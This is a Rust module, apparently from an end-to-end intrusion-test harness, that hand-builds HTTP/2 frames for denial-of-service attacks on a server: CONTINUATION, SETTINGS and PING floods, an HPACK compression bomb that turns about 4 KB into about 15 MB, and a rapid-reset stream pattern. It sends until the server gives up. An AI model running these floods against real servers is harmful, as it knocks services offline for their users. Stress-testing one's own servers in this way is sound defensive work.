//! HTTP/2 frames, written by hand: no library would send them.

use e2e::intrusion::Method;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpStream, tcp::OwnedWriteHalf},
};

use super::{Attacker, Pace};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Types and flags of frames (RFC 9113, 6).
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `CANCEL` (RFC 9113, 7).
const CANCEL: u32 = 8;
/// A field that just fits into a dynamic table of 4096 bytes, and how often a block refers to it: 15 MB from 4 KB.
const BOMB_VALUE_BYTES: usize = 3900;
const BOMB_REFERENCES: usize = 4000;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// A string of HPACK without Huffman code (RFC 7541, 5).
fn text(block: &mut Vec<u8>, text: &[u8]) {
    let mut rest = text.len();
    if rest < 127 {
        block.push(rest as u8);
    } else {
        block.push(127);
        rest -= 127;
        while rest >= 128 {
            block.push((rest % 128) as u8 | 128);
            rest /= 128;
        }
        block.push(rest as u8);
    }
    block.extend(text);
}

/// A field with a name of its own; an indexed one goes to the dynamic table.
fn field(block: &mut Vec<u8>, name: &[u8], value: &[u8], indexed: bool) {
    block.push(if indexed { 0x40 } else { 0 });
    text(block, name);
    text(block, value);
}

/// `GET http://intruder/`: three entries of the static table and the authority.
fn request() -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x84, 0x01];
    text(&mut block, b"intruder");
    block
}

/// The frames of one step.
struct Step {
    method: Method,
    stream: u32,
}

impl Step {
    fn next(&mut self) -> Vec<u8> {
        let first = self.stream == 1;
        let stream = self.stream;
        match self.method {
            Method::ContinuationFlood => {
                self.stream = 3;
                let mut block = Vec::new();
                field(&mut block, b"x-flood", &[b'a'; 1000], false);
                if first {
                    return frame(HEADERS, END_STREAM, 1, &[request(), block].concat());
                }
                frame(CONTINUATION, 0, 1, &block)
            }
            Method::SettingsFlood => frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]),
            Method::PingFlood => frame(PING, 0, 0, b"intruder"),
            Method::HpackBomb => {
                self.stream += 2;
                let mut block = request();
                if first {
                    field(&mut block, b"x-bomb", &[b'a'; BOMB_VALUE_BYTES], true);
                } else {
                    // The newest entry of the dynamic table follows the 61 of the static one.
                    block.resize(block.len() + BOMB_REFERENCES, 128 | 62);
                }
                frame(HEADERS, END_STREAM | END_HEADERS, stream, &block)
            }
            _ => {
                self.stream += 2;
                let mut frames = frame(HEADERS, END_STREAM | END_HEADERS, stream, &request());
                frames.extend(frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes()));
                frames
            }
        }
    }

    /// Whether what the server sends back is left unread.
    fn is_deaf(&self) -> bool {
        matches!(self.method, Method::SettingsFlood | Method::PingFlood)
    }
}

/// Sends step after step until the server has had enough.
pub(super) async fn flood(attacker: &Attacker, stream: TcpStream) -> std::io::Result<String> {
    let (mut reader, mut writer) = stream.into_split();
    writer.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()).await?;
    let step = Step { method: attacker.attack.method, stream: 1 };
    if step.is_deaf() {
        return send(attacker, step, &mut writer).await;
    }
    tokio::select! {
        biased;
        said = last_words(&mut reader) => said,
        failed = send(attacker, step, &mut writer) => failed,
    }
}

async fn send(attacker: &Attacker, mut step: Step, writer: &mut OwnedWriteHalf) -> std::io::Result<String> {
    let mut pace = Pace::new(&attacker.attack);
    loop {
        let steps = pace.next().await;
        let frames: Vec<u8> = (0..steps).flat_map(|_| step.next()).collect();
        writer.write_all(&frames).await?;
        attacker.took(steps);
    }
}

/// Reads frames until the server says goodbye or ends the connection.
async fn last_words(reader: &mut (impl AsyncReadExt + Unpin)) -> std::io::Result<String> {
    let mut payload = Vec::new();
    loop {
        let mut head = [0; 9];
        if let Err(error) = reader.read_exact(&mut head).await {
            return if error.kind() == std::io::ErrorKind::UnexpectedEof {
                Ok("closed".to_owned())
            } else {
                Err(error)
            };
        }
        payload.resize(u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize, 0);
        reader.read_exact(&mut payload).await?;
        // The last stream, and then the reason.
        if let (GOAWAY, Some(reason)) = (head[3], payload.get(4..8)) {
            return Ok(format!("GOAWAY {}", reason.iter().fold(0_u32, |code, byte| code << 8 | u32::from(*byte))));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn writes_long_texts_as_hpack_wants_them() {
        for (name, length, want) in [
            ("short", 3, &[3][..]),
            ("the longest of one byte", 126, &[126]),
            ("the shortest of two", 127, &[127, 0]),
            ("three bytes", 3900, &[127, 0xbd, 0x1d]),
        ] {
            let mut block = Vec::new();
            text(&mut block, &vec![b'a'; length]);
            assert_eq!(&block[..block.len() - length], want, "{name}");
        }
    }

    #[test]
    fn writes_frames() {
        assert_eq!(frame(PING, 0, 1, b"12345678"), b"\x00\x00\x08\x06\x00\x00\x00\x00\x0112345678");
    }

    #[test]
    fn the_bomb_is_small_and_becomes_large() {
        let mut step = Step { method: Method::HpackBomb, stream: 1 };
        let (fuse, bomb) = (step.next(), step.next());
        assert!(fuse.len() < 4096 && bomb.len() < 8192, "{} and {}", fuse.len(), bomb.len());
        assert!(BOMB_VALUE_BYTES + b"x-bomb".len() + 32 <= 4096, "the table would not take it");
    }
}
